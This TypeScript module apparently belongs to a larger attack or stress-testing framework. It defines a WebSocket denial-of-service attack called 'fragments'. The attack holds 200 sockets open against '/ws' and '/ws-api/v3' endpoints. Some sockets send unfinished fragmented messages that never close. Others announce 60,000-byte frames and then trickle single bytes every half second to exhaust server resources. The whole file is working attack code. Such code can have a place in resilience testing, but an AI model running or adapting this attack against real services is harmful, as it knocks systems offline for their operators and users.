/** Begins WebSocket messages and never ends them; announces frames that never come. */
import type { Attack } from '../attack.ts'
import { frameBytes, frameHead, Opcode } from '../bytes.ts'

const SOCKETS = 200
const EVERY_MS = 500
const PART = 'x'.repeat(1_000)
const ANNOUNCED_BYTES = 60_000

export const fragments: Attack = {
  name: 'fragments',
  about: 'sends parts of WebSocket messages from 200 sockets and never the last part',
  addresses: 1,
  run: (raid) => {
    const begin = frameBytes(PART, Opcode.TEXT, false)
    const next = frameBytes(PART, Opcode.CONTINUATION, false)
    const announced = frameHead(ANNOUNCED_BYTES, Opcode.TEXT)
    for (let i = 0; i < raid.size(SOCKETS); i++) {
      const isWhole = i % 2 === 0
      const line = raid.webSocket(0, i % 4 < 2 ? '/ws' : '/ws-api/v3', {
        onReady: (ready) => ready.write(isWhole ? begin : announced),
      })
      const more = isWhole ? next : Buffer.from('x')
      raid.every(EVERY_MS, () => line.write(more))
    }
  },
}
